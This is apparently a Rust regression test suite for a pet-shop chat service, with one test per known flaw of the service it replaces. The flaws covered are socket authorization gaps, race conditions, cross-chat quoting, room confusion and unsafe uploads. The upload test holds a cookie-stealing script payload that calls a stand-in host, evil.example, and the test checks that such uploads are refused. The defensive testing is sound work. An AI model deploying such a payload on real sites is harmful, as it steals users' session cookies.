//! What the service that this one replaces is known to do wrong, one test for each: what happened there stands above what has to
//! happen here.

use serde_json::{Value, json};
use tokio::task::JoinSet;

use super::rest::{Rest, text};
use super::server::{SECRET, TestServer, token_with};
use super::sockets::Client;

async fn pair(server: &TestServer) -> (Rest, Rest, String) {
    let (asha, rohan) = (server.user("asha").await, server.user("rohan").await);
    let chat = rohan.chat_with(&asha).await;
    (asha, rohan, chat)
}

/// A handler took its payload apart without looking: one client ended the process for all.
#[tokio::test]
async fn typing_without_a_payload_ends_nothing() {
    let server = TestServer::start(&[]).await;
    let (asha, rohan, chat) = pair(&server).await;
    let mut client = Client::connect(&server, &asha).await;
    let mut other = Client::connect(&server, &rohan).await;
    client.raw(r#"42["typing"]"#).await;
    let error = client.event("error").await;
    assert_eq!(
        (&error["error"], &error["event"]),
        (&json!("invalid_request"), &json!("typing"))
    );
    asha.says(&chat, "still alive").await;
    for client in [&mut client, &mut other] {
        assert_eq!(client.event("newMessage").await["content"], "still alive");
    }
}

/// Only REST looked at the block.
#[tokio::test]
async fn a_socket_cannot_send_or_type_into_a_blocked_chat() {
    let server = TestServer::start(&[]).await;
    let (asha, rohan, chat) = pair(&server).await;
    let mut watching = Client::connect(&server, &asha).await;
    let mut client = Client::connect(&server, &rohan).await;
    watching.call("join-chat", &json!(chat)).await;
    asha.put(&format!("/api/chat/{chat}/toggle-block"))
        .await
        .ok(200);
    for (event, payload) in [
        (
            "sendMessage",
            json!({ "chatId": chat, "content": "let me in" }),
        ),
        ("typing", json!({ "chatId": chat, "isTyping": true })),
    ] {
        let ack = client.call(event, &payload).await;
        assert_eq!(
            (&ack["success"], &ack["error"]),
            (&json!(false), &json!("chat_blocked"))
        );
        assert_eq!(
            client.event("error").await["message"],
            "This chat is blocked"
        );
    }
    assert!(asha.messages(&chat).await.is_empty());
    asha.put(&format!("/api/chat/{chat}/toggle-block"))
        .await
        .ok(200);
    rohan.says(&chat, "end").await;
    let heard = watching.until_hears("end").await;
    assert!(
        heard
            .iter()
            .all(|(name, _)| name != "newMessage" && name != "typing"),
        "{heard:?}"
    );
}

/// The counters were raised by REST only, so the badge stayed at nothing.
#[tokio::test]
async fn a_message_over_a_socket_counts_as_unread() {
    let server = TestServer::start(&[]).await;
    let (asha, rohan, chat) = pair(&server).await;
    let mut client = Client::connect(&server, &rohan).await;
    for number in 1..=3 {
        let send = json!({ "chatId": chat, "content": "hello?" });
        assert_eq!(client.call("sendMessage", &send).await["success"], true);
        assert_eq!(asha.unread().await, number);
    }
    let listed = asha.get("/api/chat/my-chats").await.ok(200);
    let counts = json!([{ "userId": "rohan", "count": 0 }, { "userId": "asha", "count": 3 }]);
    assert_eq!(listed["chats"][0]["unreadCount"], counts);
    let last = asha.messages(&chat).await[2]["_id"].clone();
    let mut reader = Client::connect(&server, &asha).await;
    reader
        .call("markAsRead", &json!({ "chatId": chat, "messageId": last }))
        .await;
    assert_eq!(asha.unread().await, 0);
}

/// Whoever had only a socket open did not hear of what was done over REST.
#[tokio::test]
async fn what_rest_does_is_emitted() {
    let server = TestServer::start(&[]).await;
    let (asha, rohan) = (server.user("asha").await, server.user("rohan").await);
    let mut client = Client::connect(&server, &asha).await;
    let chat = rohan.chat_with(&asha).await;
    assert_eq!(client.event("newChat").await["_id"], chat);
    let message = rohan.says(&chat, "hello").await;
    assert_eq!(client.event("newMessage").await["_id"], message["_id"]);
    rohan
        .put(&format!("/api/chat/{chat}/toggle-block"))
        .await
        .ok(200);
    assert_eq!(
        client.event("chatBlocked").await["blockedBy"],
        json!(["rohan"])
    );
    rohan
        .delete(&format!("/api/chat/message/{}", text(&message["_id"])))
        .await
        .ok(200);
    assert_eq!(
        client.event("messageDeleted").await["messageId"],
        message["_id"]
    );
    asha.put(&format!("/api/chat/{chat}/mark-read"))
        .await
        .ok(200);
    assert_eq!(client.event("messageRead").await["userId"], "asha");
}

/// Find, then create: whoever pressed twice had two chats.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn parallel_creates_make_one_chat() {
    let server = TestServer::start(&["--demo"]).await;
    let (buyer, owner) = (server.user("buyer").await, server.demo_user("user-kabir"));
    let mut creating = JoinSet::new();
    for number in 0..8 {
        let (who, body) = if number % 2 == 0 {
            (buyer.clone(), json!({ "petId": "pet-beagle" }))
        } else {
            (
                owner.clone(),
                json!({ "petId": "pet-beagle", "participantId": "buyer" }),
            )
        };
        creating.spawn(async move {
            let created = who.post("/api/chat/create", &body).await;
            (created.status, text(&created.data()["_id"]))
        });
    }
    let created = creating.join_all().await;
    assert!(
        created.iter().all(|(_, id)| *id == created[0].1),
        "{created:?}"
    );
    assert_eq!(
        created.iter().filter(|(status, _)| *status == 201).count(),
        1
    );
    let listed = buyer.get("/api/chat/my-chats").await.ok(200);
    assert_eq!(listed["pagination"]["totalChats"], 1);
}

/// Counters and `lastMessage` were read, changed and written back: parallel sends lost some.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn parallel_sends_all_count() {
    let server = TestServer::start(&[]).await;
    let (asha, rohan, chat) = pair(&server).await;
    let mut sending = JoinSet::new();
    for number in 0..20 {
        let (rohan, chat) = (rohan.clone(), chat.clone());
        sending.spawn(async move { rohan.says(&chat, &format!("message {number}")).await });
    }
    let mut sent = sending.join_all().await;
    sent.sort_by_key(|message| message["seq"].as_u64());
    let seqs: Vec<_> = sent
        .iter()
        .map(|message| message["seq"].as_u64().unwrap())
        .collect();
    assert_eq!(seqs, (1..=20).collect::<Vec<_>>());
    assert_eq!(asha.unread().await, 20);
    let history = asha.messages(&chat).await;
    let ids = |messages: &[Value]| {
        messages
            .iter()
            .map(|one| text(&one["_id"]))
            .collect::<Vec<_>>()
    };
    assert_eq!(ids(&history), ids(&sent));
    let listed = asha.get("/api/chat/my-chats").await.ok(200);
    assert_eq!(listed["chats"][0]["lastMessage"]["_id"], sent[19]["_id"]);
}

/// There were chats with one participant, twice.
#[tokio::test]
async fn nobody_chats_with_themselves() {
    let server = TestServer::start(&["--demo"]).await;
    let owner = server.demo_user("user-kabir");
    for body in [
        json!({ "participantId": "user-kabir" }),
        json!({ "participantId": "user-kabir", "chatType": "general" }),
        json!({ "participantId": "user-kabir", "petId": "pet-beagle" }),
    ] {
        owner
            .post("/api/chat/create", &body)
            .await
            .refused(400, "self_chat");
    }
    let listed = owner.get("/api/chat/my-chats").await.ok(200);
    for chat in listed["chats"].as_array().unwrap() {
        let ids: Vec<_> = chat["participants"]
            .as_array()
            .unwrap()
            .iter()
            .map(|one| &one["_id"])
            .collect();
        assert!(ids.len() == 2 && ids[0] != ids[1], "{chat}");
    }
}

/// The owner was added to the participants of an inquiry of their own.
#[tokio::test]
async fn an_owner_does_not_inquire_about_their_own_pet() {
    let server = TestServer::start(&["--demo"]).await;
    let owner = server.demo_user("user-kabir");
    let own = owner
        .post("/api/chat/create", &json!({ "petId": "pet-beagle" }))
        .await;
    own.refused(400, "self_chat");
    server.user("buyer").await;
    let buyer = json!({ "petId": "pet-beagle", "participantId": "buyer" });
    owner.post("/api/chat/create", &buyer).await.ok(201);
}

/// Rooms were joined, typing told and messages marked for whoever knew the chat's id.
#[tokio::test]
async fn an_outsider_neither_joins_nor_types_nor_reads() {
    let server = TestServer::start(&[]).await;
    let (asha, rohan, chat) = pair(&server).await;
    let message = rohan.says(&chat, "between us").await;
    let mut outsider = Client::connect(&server, &server.stranger("eve")).await;
    let mut inside = Client::connect(&server, &asha).await;
    let mut partner = Client::connect(&server, &rohan).await;
    for client in [&mut inside, &mut partner] {
        client.call("join-chat", &json!(chat)).await;
    }
    for (event, payload) in [
        ("join-chat", json!({ "chatId": chat })),
        ("joinChat", json!(chat)),
        ("typing", json!({ "chatId": chat, "isTyping": true })),
        (
            "markAsRead",
            json!({ "chatId": chat, "messageId": message["_id"] }),
        ),
        (
            "sendMessage",
            json!({ "chatId": chat, "content": "guess who" }),
        ),
    ] {
        let ack = outsider.call(event, &payload).await;
        assert_eq!(
            (&ack["success"], &ack["error"]),
            (&json!(false), &json!("access_denied")),
            "{event}"
        );
        assert_eq!(outsider.event("error").await["message"], "Access denied");
    }
    partner
        .call("typing", &json!({ "chatId": chat, "isTyping": true }))
        .await;
    inside.event("typing").await;
    rohan.says(&chat, "end").await;
    let heard = inside.until_hears("end").await;
    let foreign = |(name, payload): &(String, Value)| {
        name == "messageRead" || name == "newMessage" || payload["userId"] == "eve"
    };
    assert!(!heard.iter().any(foreign), "{heard:?}");
    let own = outsider.chat_marker(&server, "eve").await;
    assert!(own.is_empty(), "{own:?}");
    assert_eq!(asha.unread().await, 2);
}

/// Chat rooms and user rooms were one kind: joining a "chat" with a user's id brought all that user's messages.
#[tokio::test]
async fn a_users_id_is_no_chat_to_join() {
    let server = TestServer::start(&[]).await;
    // As the original's ids are: nothing tells a user's from a chat's.
    let victim = server.user("507f1f77bcf86cd799439011").await;
    let rohan = server.user("rohan").await;
    let chat = rohan.chat_with(&victim).await;
    let mut outsider = Client::connect(&server, &server.stranger("eve")).await;
    for id in [
        victim.id.clone(),
        format!("user:{}", victim.id),
        format!("chat:{chat}"),
    ] {
        for payload in [json!(id), json!({ "chatId": id })] {
            let ack = outsider.call("join-chat", &payload).await;
            assert_eq!(ack["success"], false, "{payload}");
            outsider.event("error").await;
        }
    }
    rohan.says(&chat, "for the victim only").await;
    let heard = outsider.chat_marker(&server, "eve").await;
    assert!(heard.is_empty(), "{heard:?}");
}

/// Any message could be quoted, and its content came with the answer.
#[tokio::test]
async fn a_parent_comes_from_the_same_chat() {
    let server = TestServer::start(&[]).await;
    let (asha, rohan, chat) = pair(&server).await;
    let meera = server.user("meera").await;
    let secret = asha.says(&asha.chat_with(&meera).await, "a secret").await;
    let quote = json!({ "chatId": chat, "content": "look", "parentMessageId": secret["_id"] });
    let refused = rohan.post(&format!("/api/chat/{chat}/send"), &quote).await;
    refused.refused(400, "invalid_parent");
    let mut client = Client::connect(&server, &rohan).await;
    let ack = client.call("sendMessage", &quote).await;
    assert_eq!(ack["error"], "invalid_parent");
    assert!(!ack.to_string().contains("a secret"));
    assert!(rohan.messages(&chat).await.is_empty());
}

/// Name and header decided what a file is, and it was given out as that: a script on the shop's own origin.
#[tokio::test]
async fn an_uploaded_page_or_svg_is_refused() {
    let server = TestServer::start(&[]).await;
    let (_, rohan, chat) = pair(&server).await;
    let page = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>";
    let svg =
        br#"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>"#;
    for (name, bytes) in [
        ("a.html", &page[..]),
        ("a.png", page),
        ("a.svg", svg),
        ("a.png", svg),
    ] {
        rohan
            .uploads(&chat, name, bytes)
            .await
            .refused(415, "unsupported_media_type");
    }
    assert_eq!(server.media_files(), [""; 0]);
    let named = rohan
        .uploads(&chat, "a.html", super::media::PNG)
        .await
        .ok(201);
    let name = text(&named["mediaUrl"]);
    let (_, extension) = name.split_once('.').unwrap();
    assert_eq!(extension, "png", "the server names the file");
}

/// One tab that closed made its user offline, whoever else was open.
#[tokio::test]
async fn two_tabs_are_one_presence() {
    let server = TestServer::start(&["--offline-grace", "0"]).await;
    let (asha, rohan, _) = pair(&server).await;
    let (one, two) = (
        Client::connect(&server, &asha).await,
        Client::connect(&server, &asha).await,
    );
    let online = async || {
        let listed = rohan.get("/api/chat/my-chats").await.ok(200);
        listed["chats"][0]["participants"][1]["isOnline"] == true
    };
    let mut watching = Client::connect(&server, &rohan).await;
    one.leave().await;
    let mut again = Client::connect(&server, &asha).await;
    again.call("online", &Value::Null).await;
    // Told on `online` alone: neither a tab that goes nor one that comes is a change.
    assert_eq!(watching.event("userStatus").await["isOnline"], true);
    assert!(online().await);
    again.leave().await;
    assert!(online().await);
    two.leave().await;
    assert_eq!(watching.event("userStatus").await["isOnline"], false);
    assert!(!online().await);
}

/// The picture was stored under one name and asked for under another.
#[tokio::test]
async fn an_avatar_comes_out_wherever_its_user_is_shown() {
    let server = TestServer::start(&[]).await;
    let asha = server.user("asha").await;
    let claims = json!({ "id": "rohan", "name": "Rohan", "profileImage": "/uploads/profiles/rohan.jpg", "exp": 4_000_000_000_u64 });
    let rohan = server
        .stranger("rohan")
        .with_token(&token_with(&claims, SECRET));
    let mut client = Client::connect(&server, &asha).await;
    let chat = rohan.chat_with(&asha).await;
    let message = rohan.says(&chat, "hello").await;
    let picture = "/uploads/profiles/rohan.jpg";
    assert_eq!(message["sender"]["profilePicture"], picture);
    assert_eq!(
        client.event("newChat").await["participants"][0]["profilePicture"],
        picture
    );
    assert_eq!(
        client.event("newMessage").await["sender"]["profilePicture"],
        picture
    );
    let listed = asha.get("/api/chat/my-chats").await.ok(200);
    assert_eq!(
        listed["chats"][0]["participants"][0]["profilePicture"],
        picture
    );
    assert_eq!(
        listed["chats"][0]["lastMessage"]["sender"]["profilePicture"],
        picture
    );
    assert_eq!(
        asha.messages(&chat).await[0]["sender"]["profilePicture"],
        picture
    );
}

impl Client {
    /// Has the socket's own user say something elsewhere, and answers what else the socket heard before it.
    async fn chat_marker(&mut self, server: &TestServer, id: &str) -> Vec<(String, Value)> {
        let (own, friend) = (server.user(id).await, server.user("a-friend").await);
        let chat = own.chat_with(&friend).await;
        own.says(&chat, "end").await;
        self.until_hears("end").await
    }
}
